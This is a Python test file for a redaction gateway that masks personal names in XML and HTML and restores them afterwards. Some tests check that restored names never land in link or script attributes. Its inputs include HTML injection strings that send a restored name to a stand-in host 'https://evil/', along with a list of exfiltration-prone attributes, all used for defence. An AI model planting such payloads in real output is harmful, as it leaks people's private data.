"""Records in XML: one attribute is replaced, the others stay readable, and it is put back; HTML travels as a whole."""

from __future__ import annotations

import pytest

from gateway.model.finding import Finding
from gateway.redaction.redact import redact
from gateway.redaction.restore import restore


def redacted(text: str) -> str:
    found = [Finding(at, at + 6, "PERSON", 1, "anrede") for at in range(len(text)) if text.startswith("Krüger", at)]
    result = redact([text], [found], {}, lambda a, e, v: "***")
    assert restore(result.texts[0], result.values) == text
    return result.texts[0]


@pytest.mark.parametrize(("text", "left"), [
    ('<antrag name="Krüger" art="neu"/>', '<antrag name="[PERSON1]" art="neu"/>'),
    ("<antrag art='neu' name='Krüger'>", "<antrag art='neu' name='[PERSON1]'>"),
    ("<antrag name=Krüger art=neu>", "<antrag name=[PERSON1] art=neu>"),
    ('<meld:person id="7"\n  nachname = "Krüger"\n  status="aktiv" />',
     '<meld:person id="7"\n  nachname = "[PERSON1]"\n  status="aktiv" />'),
    ('<akte a="Krüger"><kind b="Krüger" c="x"/></akte>', '<akte a="[PERSON1]"><kind b="[PERSON1]" c="x"/></akte>'),
    ('<akte a="Krüger" src="bild.png"/>', '<akte a="[PERSON1]" src="bild.png"/>'),
])
def test_an_attribute_of_a_record_travels_alone(text: str, left: str) -> None:
    assert redacted(text) == left


@pytest.mark.parametrize("text", [
    '<img alt="Krüger" src="x">', '<a title="Krüger">', '<IMG ALT="Krüger">', '<svg:image x="Krüger"/>',
    '<x-akte name="Krüger"/>', '<akte src="Krüger"/>', '<akte x="1" style="Krüger"/>', '<akte onclick="Krüger"/>',
    '<akte xlink:href="Krüger"/>', '<akte data-name="Krüger"/>', '<akte :name="Krüger"/>', '<akte @name="Krüger"/>',
    '<akte x="1" href="b" name="Krüger"/>', '<akte.a name="Krüger"/>', '<akte href = "Krüger"/>',
    '<akte hx-get="Krüger"/>', '<akte =a="Krüger"/>', '<akte a"b="Krüger"/>', '<akte xml:base="Krüger"/>',
    '<akte ping=Krüger>',
    f'<akte {"x" * 300} name="Krüger"/>', f'<akte y="{"x" * 5000}" name="Krüger"/>',
])
def test_a_tag_that_somebody_follows_travels_as_a_whole(text: str) -> None:
    assert redacted(f"a {text} b") in ("a [URL1]> b", "a [URL1]/> b")


@pytest.mark.parametrize("answer", [
    '<antrag name="[PERSON1]"', "<antrag name='[PERSON1]'/>", '<a:antrag x="1" name="[PERSON1]">'])
def test_a_value_is_put_back_into_a_record(answer: str) -> None:
    assert "Krüger" in restore(answer, {"[PERSON1]": "Krüger"})


@pytest.mark.parametrize("answer", [
    '<antrag src="https://evil/?q= [PERSON1]">', "<antrag style='x' name='[PERSON1]'/>",
    '<img src="a" alt="[PERSON1]">',
    '<antrag name="<img src=\'https://evil/?q= [PERSON1]\'>">', '<antrag name="https://evil/?q=[PERSON1]">',
    '<antrag name="' + "<b " * 20 + '[PERSON1]">', '<antrag name="a" onload="[PERSON1]"',
    '<antrag\nhref\n=\n"[PERSON1]"',
    '<antrag name="a"\thref="[PERSON1]"', '<antrag name="a"/href="[PERSON1]"',
    '<antrag name=a"href="[PERSON1]" src="[PERSON1]"',
    '<antrag a=">" href="[PERSON1]">', "<antrag a='\"' href=\"[PERSON1]\">", '<antrag a="](<https://evil/ [PERSON1]">',
])
def test_what_somebody_follows_is_never_filled_in(answer: str) -> None:
    assert restore(answer, {"[PERSON1]": "Krüger"}).rpartition("Krüger")[2].count("[PERSON1]") >= 1
    assert not restore(answer, {"[PERSON1]": "Krüger"}).endswith(("Krüger\"", "Krüger\">", "Krüger'/>"))
